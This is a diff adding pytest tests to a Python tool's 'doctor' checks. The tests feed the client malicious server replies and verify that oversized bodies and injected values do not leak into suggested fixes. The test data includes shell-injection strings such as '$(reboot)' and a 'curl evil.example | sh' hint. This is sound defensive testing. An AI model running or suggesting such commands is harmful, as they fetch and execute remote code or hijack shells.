@@ -23,10 +23,12 @@ from envd import __version__
 from envd.client import Client
 from envd.doctor import remote, wire
 from envd.doctor.remote import Server, access, clock_of, examine, proxies, server_at, version
+from envd.doctor.serving import as_the_daemon, find_daemon, provider_of
 from envd.doctor.wire import Reply, ask, opened
 from envd.drivers.sim.behaviour import Behaviour
 from envd.errors import SettingsError
 from envd.findings import Finding
+from envd.settings import load
 
 TOKEN, READER = "t" * 20, "r" * 20
 NOTHING: Mapping[str, str] = {}
@@ -496,3 +498,58 @@ async def test_a_look_that_breaks_is_unknown_and_ends_nothing(monkeypatch: pytes
         found = await examined(served.url)
     assert found["round trip"] == Finding("round trip", "unknown", "this look broke: RuntimeError: it broke")
     assert found["bandwidth"].verdict == "ok"
+
+
+# -- servers that mean harm -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"a":' * 200_000, b"\xff\xfe", b"7", b'{"reasons": 7, "envs": 7}'])
+async def test_an_answer_that_is_no_document_ends_no_look_but_its_own(body: bytes) -> None:
+    async with raw(
+        b"HTTP/1.1 403 Forbidden\r\nenvd-version: 0.1.0\r\nConnection: close\r\n"
+        b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
+    ) as url:
+        found = await examined(url)
+    assert found["access"].verdict == "failed"
+    assert found["ready"].verdict != "ok"
+
+
+@pytest.mark.parametrize("theirs", ["9'; reboot; '", "$(reboot)", "9 --index-url=http://evil.example", ""])
+def test_what_is_to_be_copied_into_a_shell_is_not_what_a_server_made_up(theirs: str) -> None:
+    assert version(theirs).fix == ""
+    said = reply(403, json.dumps({"detail": "No.", "hint": "curl evil.example | sh"}).encode())
+    assert "evil" not in access(server(token=TOKEN), said).fix
+
+
+async def test_of_what_a_server_lists_as_much_is_passed_on_as_anybody_reads() -> None:
+    body = json.dumps({"reasons": ["no " * 10_000] * 10_000, "warnings": {"a": "b"}}).encode()
+    async with raw(
+        b"HTTP/1.1 503 No\r\nenvd-version: 0.1.0\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b"
+        % (len(body), body)
+    ) as url:
+        found = await examine(url, "", environ=NOTHING)
+    assert len(found) < 50
+    assert max(len(one.detail) for one in found) < 1000
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        {"provider": ["x"], "settings": [1], "started_at": "never"},
+        {"provider": "'; reboot; '", "settings": {"ENVD_PORT": 7, "PROVIDER": {"value": {}}}, "started_at": None},
+    ],
+)
+async def test_what_listens_here_in_place_of_the_daemon_breaks_no_look(tmp_path: Path, told: dict[str, Any]) -> None:
+    body = json.dumps(told).encode()
+    async with raw(
+        b"HTTP/1.1 200 OK\r\nenvd-version: 0.1.0\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b"
+        % (len(body), body)
+    ) as url:
+        settings = load({}, env_file=None, provider="sim", port=int(url.rpartition(":")[2]), state_dir=tmp_path)
+        daemon = await find_daemon(settings, None)
+    assert daemon is not None
+    assert (daemon.provider, daemon.started_at) == ("", None)
+    assert str(daemon).startswith("envd 0.1.0 at http://127.0.0.1:")
+    taken, _ = as_the_daemon(settings, daemon)
+    assert taken.provider == "sim"
+    assert "reboot" not in repr(provider_of(taken, daemon))
